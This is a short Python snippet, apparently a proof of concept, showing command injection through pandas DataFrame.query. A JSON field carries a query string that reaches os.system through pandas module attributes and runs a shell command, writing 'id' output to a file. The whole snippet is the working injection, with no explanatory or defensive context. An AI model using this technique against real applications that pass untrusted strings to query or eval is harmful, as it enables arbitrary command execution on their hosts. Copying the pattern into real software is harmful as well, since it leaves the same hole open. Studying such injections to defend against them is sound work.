import json, pandas as pd
c = json.loads('{"q": "@pd.io.common.os.system(\'id>pf\') == 0"}')
pd.DataFrame({"a": [1]}).query(c["q"], engine="python")
